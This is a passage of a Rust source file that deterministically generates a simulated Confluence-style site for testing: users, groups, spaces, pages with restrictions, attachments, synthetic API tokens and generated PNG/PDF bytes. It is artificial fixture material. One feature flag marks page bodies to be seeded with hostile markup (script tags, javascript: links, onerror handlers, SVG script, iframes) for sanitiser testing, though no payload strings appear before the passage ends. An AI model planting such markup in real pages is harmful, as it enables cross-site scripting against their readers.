//! Deterministic, seeded generation of a realistic site.
//!
//! The same [`SimConfig`](crate::SimConfig) (seed + sizes) always yields the same [`State`].
//! Page bodies are not materialised: each page keeps a body seed and a set of feature flags and
//! [`render_body`] builds the storage-format XML on demand, so a 100,000-page site stays small.

use std::collections::BTreeSet;
use std::fmt::Write as _;

use bytes::Bytes;
use chrono::{DateTime, Duration, TimeZone, Utc};
use rand::seq::IndexedRandom;
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;
use sha2::{Digest, Sha256};

use crate::SimConfig;
use crate::model::{
    AccountType, Attachment, Body, Credentials, Group, Operation, Page, PageStatus, Restrictions,
    Space, SpacePermission, SpaceStatus, State, Subject, User, UserKind, UserStatus, Version,
    uuid_like,
};

/// Body feature flags: which content kinds a generated body contains.
pub mod feat {
    /// Code macro with CDATA, including `]]>` split across sections and `<`-heavy code.
    pub const CODE: u32 = 1 << 0;
    /// info / note / warning / tip panels.
    pub const PANELS: u32 = 1 << 1;
    /// A table.
    pub const TABLE: u32 = 1 << 2;
    /// Ordered and unordered lists.
    pub const LISTS: u32 = 1 << 3;
    /// Expand macro.
    pub const EXPAND: u32 = 1 << 4;
    /// Status lozenge.
    pub const STATUS: u32 = 1 << 5;
    /// Table of contents.
    pub const TOC: u32 = 1 << 6;
    /// Anchor and a link to it.
    pub const ANCHOR: u32 = 1 << 7;
    /// `<ac:image>` of an attachment (only on pages with attachments).
    pub const IMAGE: u32 = 1 << 8;
    /// `<ac:link>` to an attachment.
    pub const ATTACHMENT_LINK: u32 = 1 << 9;
    /// Link to another page of the same space.
    pub const PAGE_LINK: u32 = 1 << 10;
    /// Link to a page in another space.
    pub const CROSS_SPACE_LINK: u32 = 1 << 11;
    /// Link to a read-restricted page.
    pub const RESTRICTED_LINK: u32 = 1 << 12;
    /// include macro.
    pub const INCLUDE: u32 = 1 << 13;
    /// excerpt-include macro.
    pub const EXCERPT_INCLUDE: u32 = 1 << 14;
    /// excerpt macro.
    pub const EXCERPT: u32 = 1 << 15;
    /// children display macro.
    pub const CHILDREN: u32 = 1 << 16;
    /// jira macro.
    pub const JIRA: u32 = 1 << 17;
    /// An unknown third-party macro.
    pub const UNKNOWN_MACRO: u32 = 1 << 18;
    /// content-by-label macro.
    pub const CONTENT_BY_LABEL: u32 = 1 << 19;
    /// Hostile markup: script, javascript: links, onerror, SVG with script, iframe.
    pub const HOSTILE: u32 = 1 << 20;
    /// User mention.
    pub const MENTION: u32 = 1 << 21;
    /// Number of flags.
    pub const COUNT: u32 = 22;
    /// Names, index = bit number.
    pub const NAMES: [&str; COUNT as usize] = [
        "code",
        "panels",
        "table",
        "lists",
        "expand",
        "status",
        "toc",
        "anchor",
        "image",
        "attachment_link",
        "page_link",
        "cross_space_link",
        "restricted_link",
        "include",
        "excerpt_include",
        "excerpt",
        "children",
        "jira",
        "unknown_macro",
        "content_by_label",
        "hostile",
        "mention",
    ];
}

/// The staff domain: licensed employees of the company running the site.
pub const COMPANY_DOMAIN: &str = "example.com";

/// Customer domains in order; `--domains N` takes the first N (more are synthesised).
/// Includes an IDN domain in A-label form (`bücher.de`).
pub const CUSTOMER_DOMAINS: &[&str] = &[
    "acme.com",
    "globex.co.uk",
    "initech.io",
    "xn--bcher-kva.de",
    "umbrella-corp.com",
    "hooli.com",
    "stark-industries.com",
    "wayne-enterprises.com",
    "cyberdyne.net",
    "soylent.co",
    "tyrell.com",
    "wonka-industries.com",
    "massive-dynamic.com",
    "aperture-science.com",
    "vandelay.com",
    "dunder-mifflin.com",
    "pied-piper.com",
    "oscorp.com",
    "gringotts.co.uk",
    "nakatomi.co.jp",
    "virtucon.com",
    "monarch-solutions.com",
    "blue-sun.com",
    "weyland-yutani.com",
    "contoso.com",
];

const SPACE_KEYS: &[(&str, &str)] = &[
    ("KB", "Customer Knowledge Base"),
    ("ONBOARD", "Onboarding"),
    ("API", "API Documentation"),
    ("SUPPORT", "Support Playbooks"),
    ("RELEASE", "Release Notes"),
    ("INTERNAL", "Internal Engineering"),
    ("FAQ", "Frequently Asked Questions"),
    ("OPS", "Operations"),
    ("SEC", "Security"),
    ("PARTNER", "Partner Portal"),
];

/// Descriptions of the named spaces (by index in [`SPACE_KEYS`]); an empty one is a space
/// without a description, as a new Confluence space is.
const SPACE_DESCRIPTIONS: &[&str] = &[
    "Guides, how-tos and answers for customers: set up, use and troubleshoot the product.",
    "",
    "Reference and tutorials for the public REST API: authentication, endpoints, webhooks \
     and rate limits, with examples in several languages.",
    "How the support team handles tickets, escalations and incidents.",
    "What changed in each release, with upgrade notes.",
    "",
    "Short answers to the questions customers ask most.",
    "",
    "Security practices & <policies>: how we protect your data.",
    "",
];

/// Icon colours of the spaces that have an uploaded icon (by index in [`SPACE_KEYS`]);
/// `None`: Confluence's default logo.
const SPACE_ICONS: &[Option<[u8; 3]>] = &[
    Some([0x1f, 0x6f, 0xeb]),
    None,
    Some([0x0b, 0x7a, 0x53]),
    Some([0xb4, 0x3c, 0x12]),
    None,
    None,
    Some([0x6d, 0x3f, 0xc0]),
];

/// Label vocabulary.
pub const LABELS: &[&str] = &[
    "public",
    "beta",
    "internal",
    "howto",
    "faq",
    "troubleshooting",
    "release-notes",
    "api",
];

const FIRST: &[&str] = &[
    "Alice", "Bob", "Carol", "Dave", "Erin", "Frank", "Grace", "Heidi", "Ivan", "Judy", "Mallory",
    "Niaj", "Olivia", "Peggy", "Rupert", "Sybil", "Trent", "Victor", "Walter", "Zoë", "Åsa",
    "José", "Mei", "Priya", "Kwame", "Lars", "Fatima", "Hiroshi",
];
const LAST: &[&str] = &[
    "Smith",
    "Jones",
    "Müller",
    "García",
    "Nguyen",
    "Okafor",
    "Svensson",
    "Rossi",
    "Kowalski",
    "Tanaka",
    "Dubois",
    "O'Brien",
    "Papadopoulos",
    "Silva",
    "Novak",
    "Khan",
    "Andersen",
    "Cohen",
];

const TOPICS: &[&str] = &[
    "single sign-on",
    "password reset",
    "webhooks",
    "API tokens",
    "billing",
    "data export",
    "user provisioning",
    "audit logs",
    "rate limits",
    "the mobile app",
    "notifications",
    "custom fields",
    "reporting",
    "integrations",
    "backups",
    "two-factor authentication",
];
const TITLE_PATTERNS: &[&str] = &[
    "How to configure",
    "Troubleshooting",
    "Getting started with",
    "FAQ:",
    "Best practices for",
    "Known issues with",
    "Migrating",
    "Reference:",
];

/// The generation epoch: all generated timestamps fall after it and well before "now".
pub fn epoch() -> DateTime<Utc> {
    // 2023-01-02 09:00:00 UTC is a valid timestamp; `single()` cannot fail for it.
    Utc.with_ymd_and_hms(2023, 1, 2, 9, 0, 0)
        .single()
        .unwrap_or_default()
}

/// The site's cloud id: a uuid derived from the seed (same seed, same cloud id).
pub fn cloud_id(seed: &str) -> String {
    let h = Sha256::digest(format!("cloud-id:{seed}").as_bytes());
    let hex: String = h.iter().map(|b| format!("{b:02x}")).collect();
    format!(
        "{}-{}-4{}-a{}-{}",
        &hex[0..8],
        &hex[8..12],
        &hex[13..16],
        &hex[17..20],
        &hex[20..32]
    )
}

/// Hashes the seed string into a 32-byte RNG seed.
pub fn seed_bytes(seed: &str) -> [u8; 32] {
    let digest = Sha256::digest(seed.as_bytes());
    let mut out = [0u8; 32];
    out.copy_from_slice(&digest);
    out
}

/// A deterministic RNG for a seed string.
pub fn rng_for(seed: &str) -> ChaCha8Rng {
    ChaCha8Rng::from_seed(seed_bytes(seed))
}

fn hex24(rng: &mut ChaCha8Rng) -> String {
    let a: u64 = rng.random();
    let b: u32 = rng.random();
    format!("{a:016x}{b:08x}")
}

fn account_id(rng: &mut ChaCha8Rng, legacy: bool) -> String {
    if legacy {
        hex24(rng)
    } else {
        let a: u64 = rng.random();
        let b: u64 = rng.random();
        format!("712020:{}", uuid_like(a, b))
    }
}

fn token(rng: &mut ChaCha8Rng) -> String {
    let a: u64 = rng.random();
    let b: u64 = rng.random();
    let c: u64 = rng.random();
    format!("ATATT3x{a:016x}{b:016x}{c:08x}")
}

/// Domain number `i` (0-based): the fixed list, then `customerN.com`.
pub fn customer_domain(i: usize) -> String {
    CUSTOMER_DOMAINS
        .get(i)
        .map(|d| d.to_string())
        .unwrap_or_else(|| format!("customer{}.com", i + 1))
}

fn ascii_local(name: &str) -> String {
    name.chars()
        .map(|c| match c {
            'ë' => 'e',
            'Å' | 'å' => 'a',
            'é' => 'e',
            'ü' => 'u',
            _ => c.to_ascii_lowercase(),
        })
        .filter(|c| c.is_ascii_alphanumeric())
        .collect()
}

/// Builds the whole site.
pub fn generate(cfg: &SimConfig) -> State {
    let mut rng = rng_for(&cfg.seed);
    let mut s = State {
        company_domain: COMPANY_DOMAIN.to_string(),
        check_access_enabled: true,
        next_content_id: 131_073,
        next_label_id: 8_001,
        next_permission_id: 2_000_001,
        next_space_id: 65_537,
        next_account_seq: 1,
        ..State::default()
    };
    let t0 = epoch();
    let n_domains = cfg.domains.max(1);
    s.customer_domains = (0..n_domains).map(customer_domain).collect();

    // ---- users ----
    let mut used_emails = BTreeSet::new();
    let mut mk_user = |s: &mut State,
                       rng: &mut ChaCha8Rng,
                       local: Option<&str>,
                       domain: &str,
                       kind: UserKind,
                       account_type: AccountType,
                       is_admin: bool,
                       status: UserStatus|
     -> String {
        let first = *FIRST.choose(rng).unwrap_or(&"Alex");
        let last = *LAST.choose(rng).unwrap_or(&"Doe");
        let mut local = local
            .map(|l| l.to_string())
            .unwrap_or_else(|| format!("{}.{}", ascii_local(first), ascii_local(last)));
        let base = local.clone();
        let mut n = 1;
        while !used_emails.insert(format!("{local}@{domain}")) {
            n += 1;
            local = format!("{base}{n}");
        }
        let legacy = account_type == AccountType::Atlassian && rng.random_bool(0.1);
        let id = account_id(rng, legacy);
        s.insert_user(User {
            account_id: id.clone(),
            email: format!("{local}@{domain}"),
            display_name: format!("{first} {last}"),
            account_type,
            status,
            kind,
            is_admin,
        });
        id
    };

    let service_id = mk_user(
        &mut s,
        &mut rng,
        Some("kbgate-service"),
        COMPANY_DOMAIN,
        UserKind::Licensed,
        AccountType::Atlassian,
        true,
        UserStatus::Active,
    );
    let reader_id = mk_user(
        &mut s,
        &mut rng,
        Some("staff.reader"),
        COMPANY_DOMAIN,
        UserKind::Licensed,
        AccountType::Atlassian,
        false,
        UserStatus::Active,
    );
    let service_token = token(&mut rng);
    let reader_token = token(&mut rng);
    s.api_tokens
        .insert(service_token.clone(), service_id.clone());
    s.api_tokens.insert(reader_token.clone(), reader_id.clone());
    s.service_account = Some(Credentials {
        email: format!("kbgate-service@{COMPANY_DOMAIN}"),
        api_token: service_token,
    });
    s.non_admin_account = Some(Credentials {
        email: format!("staff.reader@{COMPANY_DOMAIN}"),
        api_token: reader_token,
    });
    s.admin_api_key = format!("ATCTT3x{}", &token(&mut rng)[7..]);
    // Derived from the seed alone (not the rng), so adding it changed no other generated value.
    s.cloud_id = cloud_id(&cfg.seed);

    let total_users = cfg.users.max(4);
    let staff_n = (total_users / 8).max(2);
    let mut staff = vec![service_id.clone(), reader_id.clone()];
    let app_id = mk_user(
        &mut s,
        &mut rng,
        Some("automation-bot"),
        "connect.atlassian.com",
        UserKind::Licensed,
        AccountType::App,
        false,
        UserStatus::Active,
    );
    for i in 0..staff_n.saturating_sub(2) {
        let status = if i % 17 == 16 {
            UserStatus::Inactive
        } else {
            UserStatus::Active
        };
        let admin = i == 0;
        let id = mk_user(
            &mut s,
            &mut rng,
            None,
            COMPANY_DOMAIN,
            UserKind::Licensed,
            AccountType::Atlassian,
            admin,
            status,
        );
        staff.push(id);
    }
    let licensed = staff.len();
    let max_guests = licensed * 5;
    let mut guests = Vec::new();
    let customers_n = total_users.saturating_sub(staff.len() + 1);
    for i in 0..customers_n {
        let domain = s.customer_domains[i % n_domains].clone();
        let roll: f64 = rng.random();
        let (kind, account_type) = if roll < 0.3 && guests.len() < max_guests {
            (UserKind::Guest, AccountType::Atlassian)
        } else if roll < 0.75 {
            (UserKind::Unlicensed, AccountType::Atlassian)
        } else if roll < 0.9 {
            (UserKind::Unlicensed, AccountType::Customer)
        } else {
            (UserKind::Licensed, AccountType::Atlassian)
        };
        let status = match i % 23 {
            7 => UserStatus::Inactive,
            19 => UserStatus::Closed,
            _ => UserStatus::Active,
        };
        let id = mk_user(
            &mut s,
            &mut rng,
            None,
            &domain,
            kind,
            account_type,
            false,
            status,
        );
        if kind == UserKind::Guest {
            guests.push(id);
        }
    }

    // ---- groups ----
    let mk_group = |s: &mut State, rng: &mut ChaCha8Rng, name: &str, members: BTreeSet<String>| {
        let a: u64 = rng.random();
        let b: u64 = rng.random();
        let id = uuid_like(a, b);
        s.groups.insert(
            id.clone(),
            Group {
                id: id.clone(),
                name: name.to_string(),
                members,
            },
        );
        id
    };
    let licensed_members: BTreeSet<String> = s
        .users
        .values()
        .filter(|u| u.kind == UserKind::Licensed && u.account_type != AccountType::App)
        .map(|u| u.account_id.clone())
        .collect();
    let users_group = mk_group(
        &mut s,
        &mut rng,
        crate::access::DEFAULT_ACCESS_GROUP,
        licensed_members,
    );
    s.default_access_group = Some(users_group.clone());
    let admins: BTreeSet<String> = s
        .users
        .values()
        .filter(|u| u.is_admin)
        .map(|u| u.account_id.clone())
        .collect();
    let _admins_group = mk_group(&mut s, &mut rng, "site-admins", admins);
    let internal: BTreeSet<String> = staff
        .iter()
        .step_by(2)
        .cloned()
        .chain(std::iter::once(service_id.clone()))
        .collect();
    let internal_group = mk_group(&mut s, &mut rng, "kb-internal", internal);
    let legal: BTreeSet<String> = staff.iter().skip(1).take(2).cloned().collect();
    let legal_group = mk_group(&mut s, &mut rng, "legal-only", legal);
    let unlicensed: BTreeSet<String> = s
        .users
        .values()
        .filter(|u| u.kind == UserKind::Unlicensed)
        .map(|u| u.account_id.clone())
        .collect();
    let _jsm = mk_group(
        &mut s,
        &mut rng,
        "jira-servicemanagement-customers",
        unlicensed,
    );

    // ---- spaces ----
    let n_spaces = cfg.spaces.max(1);
    let mut space_ids = Vec::new();
    for i in 0..n_spaces {
        let (key, name) = SPACE_KEYS
            .get(i)
            .map(|(k, n)| (k.to_string(), n.to_string()))
            .unwrap_or_else(|| (format!("SP{}", i + 1), format!("Space {}", i + 1)));
        let id = s.next_space_id;
        s.next_space_id += 3;
        s.space_ids_by_key.insert(key.clone(), id);
        s.spaces.insert(
            id,
            Space {
                id,
                key: key.clone(),
                name,
                homepage_id: None,
                status: SpaceStatus::Current,
                space_type: if i == 0 {
                    "knowledge_base".into()
                } else {
                    "global".into()
                },
                author_id: staff[i % staff.len()].clone(),
                created_at: t0 + Duration::days(i as i64),
                description: SPACE_DESCRIPTIONS
                    .get(i)
                    .map(|d| d.to_string())
                    .unwrap_or_default(),
                icon: None,
            },
        );
        if let Some(Some(rgb)) = SPACE_ICONS.get(i) {
            let icon_id = s.alloc_content_id();
            let created = t0 + Duration::days(i as i64);
            if let Some(sp) = s.spaces.get_mut(&id) {
                sp.icon = Some(crate::model::SpaceIconFile {
                    id: icon_id,
                    title: format!("{key}.png"),
                    media_type: "image/png".into(),
                    bytes: Bytes::from(solid_png(48, 48, *rgb)),
                    version: 1,
                    modified_at: created,
                    file_id: crate::model::uuid_like(icon_id ^ (1 << 40), id),
                });
            }
        }
        space_ids.push(id);
        // permissions: confluence-users read+create, service account admin.
        for (subject, op) in [
            (Subject::Group(users_group.clone()), "read"),
            (Subject::Group(users_group.clone()), "create"),
            (Subject::User(service_id.clone()), "read"),
            (Subject::User(service_id.clone()), "administer"),
        ] {
            let pid = s.next_permission_id;
            s.next_permission_id += 1;
            s.space_permissions.insert(
                pid,
                SpacePermission {
                    id: pid,
                    space_key: key.clone(),
                    subject,
                    operation: Operation {
                        key: op.into(),
                        target: "space".into(),
                    },
                },
            );
        }
    }
    // guests: most assigned to one space (with a read permission), some unassigned.
    for (i, g) in guests.iter().enumerate() {
        if i % 5 == 4 {
            continue;
        }
        let key = s.spaces[&space_ids[i % space_ids.len()]].key.clone();
        s.guest_spaces.insert(g.clone(), key.clone());
        let pid = s.next_permission_id;
        s.next_permission_id += 1;
        s.space_permissions.insert(
            pid,
            SpacePermission {
                id: pid,
                space_key: key,
                subject: Subject::User(g.clone()),
                operation: Operation {
                    key: "read".into(),
                    target: "space".into(),
                },
            },
        );
    }

    // ---- pages ----
    let total_pages = cfg.pages.max(n_spaces);
    // KB gets a double share.
    let weights: Vec<usize> = (0..n_spaces).map(|i| if i == 0 { 2 } else { 1 }).collect();
    let wsum: usize = weights.iter().sum();
    let mut counts: Vec<usize> = weights.iter().map(|w| total_pages * w / wsum).collect();
    let assigned: usize = counts.iter().sum();
    counts[0] += total_pages - assigned;
    let span_secs: i64 = 700 * 24 * 3600;
    let authors: Vec<String> = staff
        .iter()
        .chain(std::iter::once(&app_id))
        .cloned()
        .collect();
    let mut feature_cursor: u32 = 0;

    for (si, &space_id) in space_ids.iter().enumerate() {
        let count = counts[si].max(1);
        let key = s.spaces[&space_id].key.clone();
        let space_name = s.spaces[&space_id].name.clone();
        let mut in_space: Vec<(u64, u32)> = Vec::with_capacity(count); // (id, depth)
        for j in 0..count {
            let id = s.alloc_content_id();
            let (parent, depth) = if j == 0 {
                (None, 0)
            } else if j < 6 || rng.random_bool(0.15) {
                (Some(in_space[0].0), 1)
            } else {
                // prefer recent pages to build deep but bounded trees
                let window = in_space.len().min(40);
                let mut pick = in_space[in_space.len() - 1 - rng.random_range(0..window)];
                if pick.1 >= 7 {
                    pick = in_space[0];
                }
                (Some(pick.0), pick.1 + 1)
            };
            let title = if j == 0 {
                format!("{space_name} Home")
            } else {
                let pat = TITLE_PATTERNS.choose(&mut rng).copied().unwrap_or("About");
                let topic = TOPICS.choose(&mut rng).copied().unwrap_or("things");
                format!("{pat} {topic} ({key}-{j})")
            };
            let created = t0 + Duration::seconds(rng.random_range(0..span_secs / 2));
            let n_versions = match rng.random_range(0..10) {
                0..=5 => 1,
                6..=7 => 2,
                8 => 3,
                _ => rng.random_range(4..9),
            };
            let author = authors[rng.random_range(0..authors.len())].clone();
            let mut versions = Vec::with_capacity(n_versions);
            let mut t = created;
            for v in 0..n_versions {
                if v > 0 {
                    t += Duration::seconds(rng.random_range(60..30 * 24 * 3600));
                }
                versions.push(Version {
                    number: v as u32 + 1,
                    created_at: t,
                    author_id: if v == 0 {
                        author.clone()
                    } else {
                        authors[rng.random_range(0..authors.len())].clone()
                    },
                    message: String::new(),
                    minor_edit: false,
                });
            }
            // Features: cycle through every kind deterministically on early pages so even a
            // small site covers them all, then random mixes.
            let mut features: u32 = 0;
            for _ in 0..rng.random_range(2..6) {
                features |= 1 << rng.random_range(0..feat::COUNT);
            }
            if feature_cursor < feat::COUNT && j > 0 {
                features |= 1 << feature_cursor;
                feature_cursor += 1;
            }
            if !rng.random_bool(0.04) {
                features &= !feat::HOSTILE;
            }
            let mut labels = BTreeSet::new();
            for _ in 0..rng.random_range(0..4) {
                let name = LABELS.choose(&mut rng).copied().unwrap_or("faq");
                labels.insert(s.label_id(name));
            }
            if si == 0 && j % 3 == 0 {
                labels.insert(s.label_id("public"));
            }
            let body_seed: u64 = rng.random();
            s.pages.insert(
                id,
                Page {
                    id,
                    space_id,
                    parent_id: parent,
                    position: 0,
                    title,
                    status: PageStatus::Current,
                    versions,
                    created_at: created,
                    author_id: author,
                    body: Body::Generated {
                        seed: body_seed,
                        features,
                    },
                    labels,
                    read_restrictions: Restrictions::default(),
                },
            );
            if let Some(p) = parent {
                let kids = s.children.entry(p).or_default();
                let pos = kids.len() as i32;
                kids.push(id);
                if let Some(pg) = s.pages.get_mut(&id) {
                    pg.position = pos;
                }
            }
            in_space.push((id, depth));
            // attachments
            let wants_att = features & (feat::IMAGE | feat::ATTACHMENT_LINK) != 0;
            if wants_att || rng.random_bool(0.15) {
                let n = rng.random_range(1..3);
                for k in 0..n {
                    let aid = s.alloc_content_id();
                    let (title, media_type, bytes) = match (j + k) % 3 {
                        0 => (
                            format!("diagram-{j}-{k}.png"),
                            "image/png",
                            Bytes::from_static(PNG),
                        ),
                        1 => (
                            format!("manual-{j}-{k}.pdf"),
                            "application/pdf",
                            Bytes::from_static(PDF),
                        ),
                        _ => (
                            format!("notes-{j}-{k}.txt"),
                            "text/plain",
                            Bytes::from(format!(
                                "Notes for {key}-{j}, file {k}.\nLine two <b>not html</b>\n"
                            )),
                        ),
                    };
                    s.attachments.insert(
                        aid,
                        Attachment {
                            id: aid,
                            page_id: id,
                            title,
                            media_type: media_type.into(),
                            bytes,
                            version: 1,
                            created_at: created + Duration::seconds(30),
                            author_id: staff[k % staff.len()].clone(),
                            status: PageStatus::Current,
                            file_id: uuid_like(aid, id),
                        },
                    );
                    s.page_attachments.entry(id).or_default().push(aid);
                }
            }
        }
        if let Some(sp) = s.spaces.get_mut(&space_id) {
            sp.homepage_id = in_space.first().map(|p| p.0);
        }
        // restrictions: ~3% of pages, preferring pages with children (restricted parents).
        let n_restricted = (count / 33).max(if count > 3 { 1 } else { 0 });
        for r in 0..n_restricted {
            let (pid, _) = in_space[1 + rng.random_range(0..count - 1)];
            let pid = if r % 2 == 0 {
                // a parent: climb to a page that has children if possible
                if s.children.get(&pid).is_some_and(|c| !c.is_empty()) {
                    pid
                } else {
                    s.pages[&pid]
                        .parent_id
                        .filter(|p| Some(*p) != in_space.first().map(|x| x.0))
                        .unwrap_or(pid)
                }
            } else {
                pid
            };
            let Some(page) = s.pages.get_mut(&pid) else {
                continue;
            };
            match r % 5 {
                0 | 1 => {
                    page.read_restrictions.groups.insert(internal_group.clone());
                }
                2 | 3 => {
                    page.read_restrictions
                        .users
                        .insert(staff[(r + 2) % staff.len()].clone());
                    page.read_restrictions.users.insert(service_id.clone());
                }
                _ => {
                    // invisible to the service account
                    page.read_restrictions.groups.insert(legal_group.clone());
                }
            }
        }
    }
    add_cloud_extras(&mut s, t0, &internal_group, &service_id);
    s.next_account_seq = (s.users.len() as u64) + 1;
    s
}

/// Content a real 2026 Cloud space holds besides pages, added after everything else so that
/// the pages, ids and bodies generated before stay as they were (`--pages N` still means N
/// current pages). Per space: a root-level folder and a folder inside a folder under the home
/// page, each with a page moved into it (moving changes no `lastmodified` in Cloud), and one
/// archived page (an extra page). In the first space also: a read-restricted folder with a
/// page under it, a whiteboard, a database, an embed in a folder, and a blog post.
///
/// Folders may carry read restrictions that inherit like a page's: no evidence found either
/// way for Cloud, and the strict reading is the one a mirror must survive.
fn add_cloud_extras(s: &mut State, t0: DateTime<Utc>, restricted_to: &str, author: &str) {
    use crate::model::{Content, ContentKind};
    let space_ids: Vec<u64> = s.spaces.keys().copied().collect();
    for (si, space_id) in space_ids.into_iter().enumerate() {
        let Some(home) = s.spaces.get(&space_id).and_then(|sp| sp.homepage_id) else {
            continue;
        };
        let key = s.spaces[&space_id].key.clone();
        let when = t0 + Duration::days(200 + si as i64);
        let add = |s: &mut State, kind: ContentKind, parent: Option<u64>, title: String| {
            let id = s.alloc_content_id();
            let position = parent
                .and_then(|p| s.children.get(&p))
                .map(|c| c.len() as i32)
                .unwrap_or(0);
            s.contents.insert(
                id,
                Content {
                    id,
                    kind,
                    space_id,
                    parent_id: parent,
                    position,
                    title,
                    status: PageStatus::Current,
                    version: 1,
                    created_at: when,
                    last_modified: when + Duration::hours(1),
                    author_id: author.to_string(),
                    read_restrictions: Restrictions::default(),
                },
            );
            if let Some(p) = parent {
                s.children.entry(p).or_default().push(id);
            }
            id
        };
        // Leaf pages of this space, unrestricted, last first: the ones moved into folders.
        let mut leaves: Vec<u64> = s
            .pages
            .values()
            .filter(|p| p.space_id == space_id && p.id != home && p.parent_id.is_some())
            .filter(|p| s.children.get(&p.id).is_none_or(|c| c.is_empty()))
            .filter(|p| !s.is_effectively_restricted(p.id))
            .map(|p| p.id)
            .collect();
        leaves.reverse();
        let root_folder = add(s, ContentKind::Folder, None, format!("{key} guides"));
        let outer = add(
            s,
            ContentKind::Folder,
            Some(home),
            format!("{key} handbook"),
        );
        let inner = add(
            s,
            ContentKind::Folder,
            Some(outer),
            format!("{key} handbook: archive"),
        );
        let mut targets = vec![root_folder, inner];
        if si == 0 {
            let secret = add(
                s,
                ContentKind::Folder,
                None,
                format!("{key} internal folder"),
            );
            if let Some(c) = s.contents.get_mut(&secret) {
                c.read_restrictions.groups.insert(restricted_to.to_string());
            }
            targets.push(secret);
            add(
                s,
                ContentKind::Whiteboard,
                Some(home),
                format!("{key} architecture whiteboard"),
            );
            add(
                s,
                ContentKind::Database,
                Some(home),
                format!("{key} release tracker"),
            );
            add(
                s,
                ContentKind::Embed,
                Some(root_folder),
                format!("{key} status dashboard"),
            );
            add(
                s,
                ContentKind::Blogpost,
                None,
                format!("{key} news: what changed this quarter"),
            );
        }
        for (folder, page) in targets.into_iter().zip(leaves) {
            let old = s.pages.get(&page).and_then(|p| p.parent_id);
            if let Some(op) = old
                && let Some(c) = s.children.get_mut(&op)
            {
                c.retain(|x| *x != page);
            }
            let kids = s.children.entry(folder).or_default();
            let pos = kids.len() as i32;
            kids.push(page);
            if let Some(p) = s.pages.get_mut(&page) {
                p.parent_id = Some(folder);
                p.position = pos;
            }
        }
        // One archived page (extra: archived pages are not among the N current ones).
        let id = s.alloc_content_id();
        let position = s.children.get(&home).map(|c| c.len() as i32).unwrap_or(0);
        s.pages.insert(
            id,
            Page {
                id,
                space_id,
                parent_id: Some(home),
                position,
                title: format!("{key} retired procedure (archived)"),
                status: PageStatus::Archived,
                versions: vec![Version {
                    number: 1,
                    created_at: when,
                    author_id: author.to_string(),
                    message: String::new(),
                    minor_edit: false,
                }],
                created_at: when,
                author_id: author.to_string(),
                body: Body::Stored(std::sync::Arc::from(
                    "<p>This procedure is retired and kept for reference.</p>",
                )),
                labels: BTreeSet::new(),
                read_restrictions: Restrictions::default(),
            },
        );
        s.children.entry(home).or_default().push(id);
    }
}

/// A `width`×`height` PNG of one colour (8-bit RGB, stored deflate blocks): real bytes for
/// space icons, without an image library.
pub fn solid_png(width: u32, height: u32, rgb: [u8; 3]) -> Vec<u8> {
    fn crc32(bytes: &[u8]) -> u32 {
        let mut crc = 0xffff_ffffu32;
        for &b in bytes {
            crc ^= u32::from(b);
            for _ in 0..8 {
                crc = if crc & 1 == 1 {
                    (crc >> 1) ^ 0xedb8_8320
                } else {
                    crc >> 1
                };
            }
        }
        !crc
    }
    fn chunk(out: &mut Vec<u8>, kind: &[u8; 4], data: &[u8]) {
        out.extend_from_slice(&(data.len() as u32).to_be_bytes());
        let start = out.len();
        out.extend_from_slice(kind);
        out.extend_from_slice(data);
        let crc = crc32(&out[start..]);
        out.extend_from_slice(&crc.to_be_bytes());
    }
    // Scanlines: filter byte 0, then the pixels.
    let mut row = vec![0u8];
    row.extend(rgb.iter().copied().cycle().take(width as usize * 3));
    let raw = row.repeat(height as usize);
    // zlib: header, stored blocks of at most 65,535 bytes, Adler-32.
    let mut z = vec![0x78, 0x01];
    let blocks: Vec<&[u8]> = raw.chunks(65_535).collect();
    for (i, block) in blocks.iter().enumerate() {
        z.push(u8::from(i + 1 == blocks.len()));
        let len = block.len() as u16;
        z.extend_from_slice(&len.to_le_bytes());
        z.extend_from_slice(&(!len).to_le_bytes());
        z.extend_from_slice(block);
    }
    let (mut a, mut b) = (1u32, 0u32);
    for &byte in &raw {
        a = (a + u32::from(byte)) % 65_521;
        b = (b + a) % 65_521;
    }
    z.extend_from_slice(&((b << 16) | a).to_be_bytes());
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut ihdr = Vec::with_capacity(13);
    ihdr.extend_from_slice(&width.to_be_bytes());
    ihdr.extend_from_slice(&height.to_be_bytes());
    ihdr.extend_from_slice(&[8, 2, 0, 0, 0]);
    chunk(&mut out, b"IHDR", &ihdr);
    chunk(&mut out, b"IDAT", &z);
    chunk(&mut out, b"IEND", &[]);
    out
}

/// A real 1×1 PNG.
pub const PNG: &[u8] = &[
    0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0x00, 0x00, 0x00, 0x0D, 0x49, 0x48, 0x44, 0x52,
    0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x06, 0x00, 0x00, 0x00, 0x1F, 0x15, 0xC4,
    0x89, 0x00, 0x00, 0x00, 0x0D, 0x49, 0x44, 0x41, 0x54, 0x78, 0x9C, 0x63, 0xF8, 0xCF, 0xC0, 0xF0,
    0x1F, 0x00, 0x05, 0x00, 0x01, 0xFF, 0x89, 0x99, 0x3D, 0x1D, 0x00, 0x00, 0x00, 0x00, 0x49, 0x45,
    0x4E, 0x44, 0xAE, 0x42, 0x60, 0x82,
];

/// A minimal valid PDF.
pub const PDF: &[u8] = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n";

/// Escapes text for XML content and attribute values.
pub fn xml_escape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            _ => out.push(c),
        }
    }
    out
}

/// Wraps text in CDATA, splitting any `]]>` across sections as Confluence does.
pub fn cdata(s: &str) -> String {
    format!("<![CDATA[{}]]>", s.replace("]]>", "]]]]><![CDATA[>"))
}

const CODE_SNIPPETS: &[(&str, &str)] = &[
    (
        "java",
        "if (a[b[0]]>1 && x < y) {\n    List<Map<String, List<Integer>>> m = new ArrayList<>();\n}",
    ),
    (
        "xml",
